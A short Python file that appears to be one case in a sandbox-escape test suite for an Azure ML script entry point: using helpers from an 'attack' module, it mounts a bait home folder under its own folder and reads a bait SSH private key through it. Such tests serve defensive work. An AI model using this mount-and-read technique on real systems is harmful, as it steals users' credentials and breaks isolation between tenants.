"""Mounts the person's home folder below its own folder."""

import os

from attack import BAIT, attack, mount, read, unmount


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    os.mkdir("home")
    mount(BAIT["home"], "home", None, 0x1000)
    try:
        return read(os.path.join("home", os.path.relpath(BAIT["ssh_key"], BAIT["home"])))
    finally:
        unmount("home")
